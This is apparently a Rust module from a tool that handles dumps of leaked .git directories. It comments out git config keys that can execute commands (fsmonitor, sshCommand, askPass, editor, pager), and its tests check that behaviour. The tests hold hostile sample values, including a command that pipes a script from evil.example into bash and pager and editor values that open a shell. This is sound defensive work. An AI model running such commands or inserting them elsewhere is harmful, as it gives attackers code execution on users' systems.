//! Neutralizing hostile configuration before any git binary touches the
//! dump.
//!
//! A leaked `.git/config` is attacker-controlled: `fsmonitor`, `sshCommand`
//! and friends are command-execution vectors the moment `git checkout`
//! runs. Those keys are commented out in place, never deleted, so the
//! evidence survives.

use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use anyhow::{Context, Result};
use regex::Regex;

static UNSAFE_KEYS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?im)^(\s*)(fsmonitor|sshCommand|askPass|editor|pager)(\s*=)").unwrap()
});

/// Comment out unsafe keys in one file. Returns whether it was altered.
pub(crate) fn sanitize_file(path: &Path) -> Result<bool> {
    let content =
        fs::read_to_string(path).with_context(|| format!("couldn't read {}", path.display()))?;
    let sanitized = UNSAFE_KEYS.replace_all(&content, "${1}# ${2}${3}");

    if sanitized == content {
        return Ok(false);
    }
    fs::write(path, sanitized.as_bytes())
        .with_context(|| format!("couldn't rewrite {}", path.display()))?;
    tracing::warn!("'{}' file was altered", path.display());
    Ok(true)
}

/// Sanitize every fetched configuration file known to exist in the dump.
pub(crate) fn sanitize_output(output: &Path) {
    for candidate in [".git/config", ".git/config.worktree"] {
        let path = output.join(candidate);
        if !path.is_file() {
            continue;
        }
        if let Err(err) = sanitize_file(&path) {
            tracing::warn!("couldn't sanitize {}: {err:#}", path.display());
        }
    }
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    fn roundtrip(input: &str) -> (bool, String) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config");
        fs::write(&path, input).unwrap();
        let altered = sanitize_file(&path).unwrap();
        (altered, fs::read_to_string(&path).unwrap())
    }

    #[test]
    fn comments_out_fsmonitor() {
        let (altered, result) = roundtrip(
            "[core]\n\
             \trepositoryformatversion = 0\n\
             \tfsmonitor = \"bash -c 'curl -s https://evil.example/p.sh | bash'\"\n",
        );
        assert!(altered);
        assert!(result.contains("# fsmonitor ="));
        assert!(result.contains("repositoryformatversion = 0"));
    }

    #[test]
    fn handles_every_unsafe_key_and_any_case() {
        let (altered, result) = roundtrip(
            "[core]\n\
             \tsshCommand = \"ssh -i /tmp/key\"\n\
             \tASKPASS = /tmp/bad\n\
             \teditor = \"vim -c '!sh'\"\n\
             \tPager = \"less; sh\"\n",
        );
        assert!(altered);
        assert!(result.contains("# sshCommand ="));
        assert!(result.contains("# ASKPASS ="));
        assert!(result.contains("# editor ="));
        assert!(result.contains("# Pager ="));
    }

    #[test]
    fn safe_config_is_untouched() {
        let safe = "[core]\n\
                    \tbare = false\n\
                    [remote \"origin\"]\n\
                    \turl = https://example.com/repo.git\n\
                    \tfetch = +refs/heads/*:refs/remotes/origin/*\n";
        let (altered, result) = roundtrip(safe);
        assert!(!altered);
        assert_eq!(result, safe);
    }

    #[test]
    fn already_commented_lines_are_not_double_commented() {
        let (altered, result) = roundtrip("[core]\n\t# fsmonitor = \"dangerous\"\n");
        assert!(!altered);
        assert!(!result.contains("## fsmonitor"));
    }

    #[test]
    fn indentation_is_preserved() {
        let (_, result) = roundtrip("[core]\n    fsmonitor = x\n\tsshCommand = y\n");
        assert!(result.contains("    # fsmonitor = x"));
        assert!(result.contains("\t# sshCommand = y"));
    }

    #[test]
    fn sanitize_output_tolerates_missing_config() {
        let dir = tempfile::tempdir().unwrap();
        sanitize_output(dir.path());
    }
}
